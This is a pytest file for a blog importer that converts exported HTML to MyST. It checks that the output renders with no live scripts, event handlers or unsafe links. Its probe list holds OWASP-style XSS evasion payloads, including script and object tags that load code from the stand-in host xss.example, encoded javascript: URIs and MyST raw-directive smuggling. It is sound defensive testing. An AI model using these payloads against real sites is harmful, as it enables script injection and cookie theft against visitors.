"""Export HTML becomes MyST that shows the same text and runs nothing, whatever the probe."""

from __future__ import annotations

import pytest
from bs4 import BeautifulSoup
from markdown_it.renderer import RendererHTML
from myst_parser.config.main import MdParserConfig
from myst_parser.parsers.mdit import create_md_parser

from msblog.importers.html_to_myst import html_to_myst, is_safe_myst

# Filter-evasion probes in the manner of the OWASP XSS Filter Evasion Cheat Sheet.
PROBES = [
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=//xss.example/.j>",
    "<iframe src=https://xss.example/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<p>:::{raw} html</p><p>&lt;script&gt;alert(1)&lt;/script&gt;</p><p>:::</p>",
    "<pre>```\n```{raw} html\n&lt;script&gt;alert(1)&lt;/script&gt;\n```</pre>",
    "<p>{raw}`&lt;script&gt;alert(1)&lt;/script&gt;`</p>",
    "<p>(label)=</p><p>% a hidden comment</p><p>+++</p>",
    "<p>```{eval-rst}</p><p>.. raw:: html</p>",
]

SPHINX_MYST = create_md_parser(MdParserConfig(enable_extensions={"colon_fence"}), RendererHTML)


@pytest.mark.parametrize("html", PROBES)
def test_probe_leaves_nothing_live(html):
    converted = html_to_myst(html)
    assert is_safe_myst(converted.text)
    rendered = BeautifulSoup(SPHINX_MYST.render(converted.text), "lxml")
    assert rendered.find_all(["script", "iframe", "object", "embed", "style", "svg", "math", "base", "meta",
                              "link", "input"]) == []
    for tag in rendered.find_all(True):
        assert not [a for a in tag.attrs if a.lower().startswith("on") or a.lower() == "style"], tag
        for attribute in ("href", "src"):  # a link or source that is kept is a web or mail address
            assert tag.get(attribute) is None or tag[attribute].startswith(("http://", "https://", "mailto:")), tag


def test_plain_markup_text_is_kept_as_text():
    converted = html_to_myst("<p>:::{raw} html</p><p>&lt;b&gt;x&lt;/b&gt; *not emphasis* 1. not a list</p>")
    text = BeautifulSoup(SPHINX_MYST.render(converted.text), "lxml").get_text()
    assert ":::{raw} html" in text and "<b>x</b> *not emphasis* 1. not a list" in text


def test_embeds_become_links_and_active_content_is_reported():
    converted = html_to_myst('<iframe src="//www.youtube.com/embed/a"></iframe><script>x()</script><p>text</p>')
    assert converted.embeds == ["https://www.youtube.com/embed/a"]
    assert converted.removed == ["script"]
    assert "[Embedded iframe: https://www.youtube.com/embed/a](https://www.youtube.com/embed/a)" in converted.text


def test_formatting_survives():
    converted = html_to_myst("<p>A <b>bold</b> <a href='https://e.org/x'>link</a>.</p><ul><li>one</li></ul><blockquote>q</blockquote>")
    html = SPHINX_MYST.render(converted.text)
    soup = BeautifulSoup(html, "lxml")
    assert soup.strong.get_text() == "bold" and soup.a["href"] == "https://e.org/x"
    assert soup.li.get_text() == "one" and soup.blockquote.get_text(strip=True) == "q"
